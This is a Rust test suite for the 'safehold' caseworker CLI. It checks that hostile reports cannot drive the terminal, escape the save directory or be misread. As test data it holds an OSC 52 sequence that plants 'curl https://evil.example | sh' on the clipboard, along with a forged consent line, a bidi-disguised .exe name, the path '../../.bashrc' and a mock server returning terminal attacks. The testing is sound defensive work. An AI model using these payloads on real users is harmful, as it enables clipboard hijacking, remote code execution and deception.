//! The caseworker's laptop is a target: a report made of terminal control sequences must not
//! drive the terminal, saved files must not overwrite or escape their directory, the reply
//! text never goes through argv, and a file addressed to you that does not open is told apart
//! from one that is not addressed to you, and can be flagged for the route. All through the
//! real `safehold` binary against a real server.

use std::path::Path;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use crate::common::{
    Attachment, Backend, Channel, Codephrase, Consent, Message, ReceiptKeys, Report, ReportFields,
    RoutingAnswers, TestServer, code_args, demo_identity, element_text, graft_first_stanza,
    open_as, run, run_with_input, seal,
};

/// Writes to the clipboard (`curl … | sh`), a link, a window title, and cursor movement
/// that overwrites the consent line above with a forged one; then a right-to-left override.
const OSC52: &str = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07";
const OSC8: &str = "\x1b]8;;https://evil.example/\x1b\\Open the evidence\x1b]8;;\x1b\\";
const TITLE: &str = "\x1b]0;Safehold: all clear\x07";
const CURSOR: &str = "\x1b[2A\x1b[2K\rConsent: OHCHR reprisals team yes, named mechanism yes\n";
const BIDI: &str = "invoice\u{202e}fdp.exe";
const C1: &str = "\u{9b}2J\u{9d}0;title\u{9c}";

fn hostile_text() -> String {
    format!("{OSC52}{OSC8}{TITLE}{CURSOR}{BIDI}{C1}\u{2066}\u{200f}\u{61c}\x7f")
}

/// Whether `text` holds anything a terminal would obey or that reorders a line.
fn active(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(*c, '\u{61c}' | '\u{200e}' | '\u{200f}')
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
        })
        .collect()
}

fn assert_inert(what: &str, text: &str) {
    let found = active(text);
    assert!(found.is_empty(), "{what} printed {found:?}:\n{text}");
}

fn hostile_report(attachments: Vec<Attachment>) -> Report {
    let text = hostile_text();
    Report::new(
        "en\x1b[2J",
        Channel::Cli,
        RoutingAnswers {
            mechanism: Some("special_procedures".into()),
            region: Some(format!("{TITLE}Europe")),
            immediate_danger: None,
        },
        ReportFields {
            what_happened: text.clone(),
            when: format!("{CURSOR}yesterday"),
            location: format!("{OSC8}Geneva"),
            un_engagement: C1.into(),
            people_affected: BIDI.into(),
            contact: OSC52.into(),
        },
        Consent {
            ohchr_reprisals_team: true,
            named_mechanism: true,
            sg_report_named: false,
            sg_report_anonymous: true,
            statistics: true,
        },
        ReceiptKeys::derive(&Codephrase::generate())
            .unwrap()
            .reply_to(),
        attachments,
    )
}

/// Submits `report` through the API on route `general`; its case id.
async fn submit(server: &TestServer, report: &Report) -> String {
    let submission = server.api_submission_of("general", report).await;
    let response = server.post_report(&submission.body).await;
    assert_eq!(response.status(), 201);
    let accepted: Value = response.json().await.unwrap();
    accepted["id"].as_str().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_report_made_of_control_sequences_cannot_drive_the_terminal() {
    let server = TestServer::start(Backend::Sqlite).await;
    let long_name = format!("{}\x1b]52;c;eA==\x07.pdf", "é".repeat(300));
    let report = hostile_report(vec![
        Attachment::new(long_name, "application/pdf", b"pdf".to_vec(), false),
        Attachment::new(BIDI, "text/plain\x1b[2K", b"exe".to_vec(), false),
    ]);
    let id = submit(&server, &report).await;
    server
        .add_followup(&id, &Message::followup("en", hostile_text(), vec![]))
        .await;
    let amina = |args: &[&str]| server.cli("caseworker/amina", args);
    assert!(amina(&["case", "login"]).0);

    // `case show`: every field, the attachment list and the thread are shown, not obeyed.
    let (ok, out, err) = amina(&["case", "show", &id]);
    assert!(ok, "{err}");
    assert_inert("case show (stdout)", &out);
    assert_inert("case show (stderr)", &err);
    assert!(
        out.contains("\\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\u0007"),
        "the clipboard sequence is visible as text: {out}"
    );
    assert!(out.contains("invoice\\u202efdp.exe"), "{out}");
    assert!(out.contains("\\u009b2J"), "{out}");
    assert!(out.contains("\\u001b[2A\\u001b[2K"), "{out}");
    let consent_lines: Vec<&str> = out.lines().filter(|l| l.starts_with("Consent")).collect();
    assert_eq!(consent_lines.len(), 2, "{out}");
    assert_eq!(
        consent_lines[0],
        "Consent at intake (inside the report): ohchr yes, mechanism yes, sg_named no, sg_anonymous yes, statistics yes",
        "a forged consent line starts no line of its own: {out}"
    );
    assert!(
        consent_lines[1].starts_with("Consent now (the reporter's current record"),
        "{out}"
    );
    assert!(
        out.contains("--- #1 from reporter"),
        "the follow-up is shown: {out}"
    );

    // `--json` is inert too, and a script still reads the reporter's exact text.
    let (ok, out, err) = amina(&["case", "show", &id, "--json"]);
    assert!(ok, "{err}");
    assert_inert("case show --json", &out);
    let shown: Value = serde_json::from_str(&out).unwrap();
    // (The envelope turns a lone CR into a newline, as browsers' forms do.)
    let normalized = hostile_text().replace('\r', "\n");
    assert_eq!(shown["fields"]["what_happened"], normalized.as_str());
    let thread_text = shown["thread"][0]["text"].as_str().unwrap();
    assert!(thread_text == hostile_text() || thread_text == normalized);

    let (ok, out, err) = amina(&["case", "list"]);
    assert!(ok && out.contains(&id), "{err}");
    assert_inert("case list", &out);

    // The rapporteur's `inbox pull --show` prints the same words, escalated.
    let coded = amina(&code_args(&id, &["--consent-from-report"]));
    assert!(coded.0, "{}{}", coded.1, coded.2);
    assert_inert("case code", &coded.1);
    let package = server.escalate("caseworker/amina", &id, "sr-defenders", &[]);
    let rapporteur = |args: &[&str]| server.cli("rapporteur/sr-defenders", args);
    assert!(rapporteur(&["inbox", "login"]).0);
    let saved = server.cli_home().join("from-package");
    let (ok, out, err) = rapporteur(&[
        "inbox",
        "pull",
        &package,
        "--show",
        "--save-attachments",
        saved.to_str().unwrap(),
    ]);
    assert!(ok, "{err}");
    assert_inert("inbox pull --show (stdout)", &out);
    assert_inert("inbox pull --show (stderr)", &err);
    assert!(out.contains("\\u001b]52;c;"), "{out}");
    assert_saved_names_are_harmless(&saved, 2);

    // `age -d package.age | less` (or `cat`) shows the communication as written into the
    // package: the reporter's words there are inert too (the JSON after it escapes them).
    let token = server
        .login("rapporteur", "sr-defenders", "sr-defenders")
        .await;
    let (_, detail) = server
        .get_as(&format!("/api/v1/inbox/{package}"), &token)
        .await;
    let ciphertext = STANDARD
        .decode(detail["ciphertext"].as_str().unwrap())
        .unwrap();
    let plaintext = open_as(&ciphertext, "sr-defenders").unwrap();
    let text = String::from_utf8(plaintext).unwrap();
    let communication = &text[..text.find("-----BEGIN SAFEHOLD").unwrap()];
    assert_inert("the package's communication", communication);
    assert!(communication.contains("\\u001b]52;c;"), "{communication}");
    server.stop().await;
}

/// The files in `dir`: exactly `count`, each name at most 255 bytes, none hidden, none with
/// a control or bidirectional character.
fn assert_saved_names_are_harmless(dir: &Path, count: usize) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names.len(), count, "{names:?}");
    for name in &names {
        assert!(name.len() <= 255, "{name} is {} bytes", name.len());
        assert!(!name.starts_with('.'), "{name}");
        assert!(active(name).is_empty(), "{name:?}");
    }
    names
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attachments_and_packages_are_saved_under_short_names_and_never_overwrite() {
    let server = TestServer::start(Backend::Sqlite).await;
    let long_name = format!("{}.pdf", "a".repeat(300));
    let report = hostile_report(vec![
        Attachment::new(long_name, "application/pdf", b"first".to_vec(), false),
        Attachment::new("../../.bashrc", "text/plain", b"second".to_vec(), false),
        Attachment::new("note.txt", "text/plain", b"third".to_vec(), false),
    ]);
    let id = submit(&server, &report).await;
    let amina = |args: &[&str]| server.cli("caseworker/amina", args);
    assert!(amina(&["case", "login"]).0);
    let dir = server.cli_home().join("export");
    std::fs::create_dir_all(&dir).unwrap();
    // A file of the caseworker's that happens to have the third attachment's name.
    std::fs::write(dir.join("03-note.txt"), b"mine").unwrap();

    let (ok, _, err) = amina(&[
        "case",
        "show",
        &id,
        "--save-attachments",
        dir.to_str().unwrap(),
    ]);
    assert!(ok, "the long name did not stop the others: {err}");
    let names = assert_saved_names_are_harmless(&dir, 4);
    let long = names.iter().find(|n| n.starts_with("01-")).unwrap();
    assert!(long.ends_with("a.pdf") && long.len() == 255, "{long}");
    assert!(names.contains(&"02-_.._.bashrc".to_owned()), "{names:?}");
    assert_eq!(std::fs::read(dir.join("03-note.txt")).unwrap(), b"mine");
    assert_eq!(
        std::fs::read(dir.join("03-note (2).txt")).unwrap(),
        b"third"
    );
    assert!(
        !server.cli_home().join(".bashrc").exists(),
        "nothing escaped the directory"
    );

    // Saving again adds copies; nothing is replaced.
    let (ok, _, err) = amina(&[
        "case",
        "show",
        &id,
        "--save-attachments",
        dir.to_str().unwrap(),
    ]);
    assert!(ok, "{err}");
    let names = assert_saved_names_are_harmless(&dir, 7);
    assert!(names.contains(&"03-note (3).txt".to_owned()), "{names:?}");
    assert_eq!(std::fs::read(dir.join("03-note.txt")).unwrap(), b"mine");
    let copy = names
        .iter()
        .find(|n| n.starts_with("01-") && n.ends_with(" (2).pdf"))
        .unwrap_or_else(|| panic!("a shortened copy of the long name: {names:?}"));
    assert!(copy.len() <= 255);

    // `inbox pull` never replaces a saved package either.
    let coded = amina(&code_args(&id, &["--consent-from-report"]));
    assert!(coded.0, "{}", coded.2);
    let package = server.escalate("caseworker/amina", &id, "sr-defenders", &[]);
    let rapporteur = |args: &[&str]| server.cli("rapporteur/sr-defenders", args);
    assert!(rapporteur(&["inbox", "login"]).0);
    let file = server.cli_home().join("package.age");
    std::fs::write(&file, b"an older package").unwrap();
    let (ok, out, err) = rapporteur(&["inbox", "pull", &package, "-o", file.to_str().unwrap()]);
    assert!(ok, "{err}");
    assert!(
        err.contains("already exists and was left as it is"),
        "{err}"
    );
    assert_eq!(std::fs::read(&file).unwrap(), b"an older package");
    let second = server.cli_home().join("package (2).age");
    assert!(out.contains("package (2).age"), "{out}");
    assert!(
        std::fs::read(&second)
            .unwrap()
            .starts_with(b"age-encryption.org/v1\n")
    );
    let (ok, _, err) = rapporteur(&["inbox", "pull", &package]);
    assert!(ok, "{err}");
    let (ok, _, err) = rapporteur(&["inbox", "pull", &package]);
    assert!(ok, "{err}");
    assert!(server.cli_home().join(format!("{package}.age")).exists());
    assert!(
        server
            .cli_home()
            .join(format!("{package} (2).age"))
            .exists()
    );
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reply_text_comes_from_the_editor_or_standard_input_never_argv() {
    let server = TestServer::start(Backend::Sqlite).await;
    let id = submit(&server, &hostile_report(vec![])).await;
    assert!(server.cli("caseworker/amina", &["case", "login"]).0);
    let count = || async { server.store.messages(&id).await.unwrap().len() };

    // --message is refused, saying where the text goes instead; nothing is sent.
    let (ok, _, err) = server.cli(
        "caseworker/amina",
        &["case", "reply", &id, "--message", "We will call you."],
    );
    assert!(!ok);
    assert!(
        err.contains("never taken from the command line") && err.contains("$EDITOR"),
        "{err}"
    );
    assert_eq!(count().await, 0);

    // Standard input, when it is not a terminal.
    let (ok, out, err) = server.cli_with_input(
        "caseworker/amina",
        &["case", "reply", &id, "--yes"],
        "From standard input.",
    );
    assert!(ok, "{out}{err}");
    assert_eq!(count().await, 1);
    let (ok, _, err) =
        server.cli_with_input("caseworker/amina", &["case", "reply", &id, "--yes"], " \n");
    assert!(!ok && err.contains("the reply is empty"), "{err}");

    // At a terminal, $EDITOR opens a private file, which is gone afterwards. `script` gives
    // the command a pseudo-terminal; the "editor" records what it was given.
    let home = server.cli_home();
    let runtime = home.join("runtime");
    std::fs::create_dir_all(&runtime).unwrap();
    let log = home.join("editor.log");
    let editor = home.join("editor.sh");
    std::fs::write(
        &editor,
        format!(
            "#!/bin/sh\nset -e\nstat -c '%a %n' \"$(dirname \"$1\")\" \"$1\" > '{log}'\nprintf 'Written in the editor.\\n' > \"$1\"\n",
            log = log.display()
        ),
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&editor, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    let mut inner = server.cli_command(
        "caseworker/amina",
        &crate::common::demo_identity_file("amina"),
        &["case", "reply", &id, "--yes"],
    );
    inner
        .env("EDITOR", &editor)
        .env("XDG_RUNTIME_DIR", &runtime);
    let program = inner.get_program().to_string_lossy().into_owned();
    let args: Vec<String> = inner
        .get_args()
        .map(|a| format!("'{}'", a.to_string_lossy()))
        .collect();
    let mut command = std::process::Command::new("script");
    command
        .args([
            "-qec",
            &format!("'{program}' {}", args.join(" ")),
            "/dev/null",
        ])
        .current_dir(&home);
    for (key, value) in inner.get_envs() {
        if let Some(value) = value {
            command.env(key, value);
        }
    }
    let (ok, out, err) = run_with_input(&mut command, "");
    assert!(ok, "{out}{err}");
    assert_eq!(count().await, 2, "{out}");
    let seen = std::fs::read_to_string(&log).unwrap();
    let mut lines = seen.lines();
    let dir_line = lines.next().unwrap();
    let file_line = lines.next().unwrap();
    assert!(dir_line.starts_with("700 "), "{seen}");
    assert!(
        file_line.starts_with("600 ") && file_line.ends_with("reply.txt"),
        "{seen}"
    );
    let dir = dir_line.split_once(' ').unwrap().1;
    assert!(
        dir.starts_with(runtime.to_str().unwrap()),
        "in XDG_RUNTIME_DIR: {seen}"
    );
    assert!(
        !Path::new(dir).exists(),
        "the private directory was removed"
    );
    let (ok, out, _) = server.cli("caseworker/amina", &["case", "show", &id, "--json"]);
    assert!(ok);
    let shown: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(shown["thread"][1]["text"], "Written in the editor.\n");
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_addressed_to_you_that_does_not_open_is_told_apart_and_flagged_for_the_route() {
    let server = TestServer::start(Backend::Sqlite).await;
    let plaintext = hostile_report(vec![]).to_padded_plaintext().unwrap();

    // The route's keys with amina's first (the published order is sorted, not hers).
    let amina_key = demo_identity("amina").to_public();
    let amina_first = |recipients: &[age::x25519::Recipient]| {
        let mut ordered = vec![amina_key.clone()];
        ordered.extend(
            recipients
                .iter()
                .filter(|r| r.to_string() != amina_key.to_string())
                .cloned(),
        );
        assert_eq!(ordered.len(), recipients.len(), "amina is on the route");
        ordered
    };

    // The first stanza (amina's) replaced by one that opens for amina to another file key.
    let forged = server
        .api_submission_of_ciphertext("general", |recipients| {
            let ordered = amina_first(recipients);
            let file = seal::encrypt(&plaintext, &ordered).unwrap();
            let donor = seal::encrypt(b"decoy", &ordered[..1]).unwrap();
            graft_first_stanza(&file, &donor)
        })
        .await;
    let response = server.post_report(&forged.body).await;
    assert_eq!(
        response.status(),
        201,
        "the server cannot tell without a key"
    );
    let forged_id = response.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();

    // A report for the route's others, and a stranger's key in amina's place.
    let stranger = age::x25519::Identity::generate().to_public();
    let not_for_amina = server
        .api_submission_of_ciphertext("general", |recipients| {
            let mut others = vec![stranger.clone()];
            others.extend_from_slice(&amina_first(recipients)[1..]);
            seal::encrypt(&plaintext, &others).unwrap()
        })
        .await;
    let response = server.post_report(&not_for_amina.body).await;
    assert_eq!(response.status(), 201);
    let other_id = response.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let normal_id = submit(&server, &hostile_report(vec![])).await;

    let amina = |args: &[&str]| server.cli("caseworker/amina", args);
    assert!(amina(&["case", "login"]).0);
    let (ok, _, err) = amina(&["case", "show", &forged_id]);
    assert!(!ok);
    assert!(
        err.contains(&format!(
            "case {forged_id} is addressed to you but does not open"
        )) && err.contains("malicious")
            && err.contains(&format!("safehold case status {forged_id} unreadable")),
        "{err}"
    );
    let (ok, _, err) = amina(&["case", "show", &other_id]);
    assert!(!ok);
    assert!(
        err.contains(&format!("case {other_id} is not addressed to you"))
            && !err.contains("malicious"),
        "{err}"
    );

    // Only a case that is addressed to you and does not open may be flagged by you.
    let (ok, _, err) = amina(&["case", "status", &normal_id, "unreadable"]);
    assert!(!ok && err.contains("opens with your key"), "{err}");
    let (ok, _, err) = amina(&["case", "status", &other_id, "unreadable"]);
    assert!(!ok && err.contains("not addressed to your key"), "{err}");
    let (ok, out, err) = amina(&["case", "status", &forged_id, "unreadable"]);
    assert!(ok, "{out}{err}");
    assert!(out.contains("unreadable"), "{out}");

    // Everyone on the route sees the flag.
    let (ok, out, err) = server.cli("caseworker/bruno", &["case", "login"]);
    assert!(ok, "{out}{err}");
    let (ok, out, err) = server.cli("caseworker/bruno", &["case", "list", "--json"]);
    assert!(ok, "{err}");
    let cases: Value = serde_json::from_str(&out).unwrap();
    let flagged = cases
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == forged_id.as_str())
        .unwrap();
    assert_eq!(flagged["status"], "unreadable");
    // The reporter (or whoever posed as one) is asked to send it again.
    let (status, page, _) = server.receipt_lookup(&forged.codephrase).await;
    assert_eq!(status, 200);
    assert!(
        element_text(&page, "status")
            .unwrap_or_default()
            .contains("could not open your report"),
        "{page}"
    );
    let stored = server.store.report(&forged_id).await.unwrap().unwrap();
    assert_eq!(
        STANDARD.encode(&stored.ciphertext),
        forged.body["ciphertext"].as_str().unwrap(),
        "the file itself is kept as it came, for the route to examine"
    );
    server.stop().await;
}

/// A "server" that answers every request with a 500 whose body is a terminal attack.
fn hostile_server() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for stream in listener.incoming().take(4) {
            let Ok(mut stream) = stream else { continue };
            let mut buffer = [0u8; 4096];
            let _ = stream.read(&mut buffer);
            let body = format!("{OSC52}{CURSOR}{BIDI}{C1}");
            let _ = write!(
                stream,
                "HTTP/1.1 500 Internal Server Error\r\ncontent-type: text/plain\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("http://{address}")
}

#[test]
fn a_hostile_servers_error_body_is_shown_inert() {
    let url = hostile_server();
    let home = tempfile::tempdir().unwrap();
    let mut command = crate::common::safehold_command();
    command
        .args([
            "case",
            "login",
            "--server",
            &url,
            "--as",
            "caseworker/amina",
        ])
        .arg("--identity")
        .arg(crate::common::demo_identity_file("amina"))
        .env("XDG_CACHE_HOME", home.path().join("cache"))
        .env("XDG_CONFIG_HOME", home.path().join("config"));
    let (ok, out, err) = run(&mut command);
    assert!(!ok);
    assert_inert("the error", &err);
    assert!(
        err.contains("\\u001b]52;c;") && err.contains("HTTP 500"),
        "{err}"
    );
    assert!(out.is_empty());
}
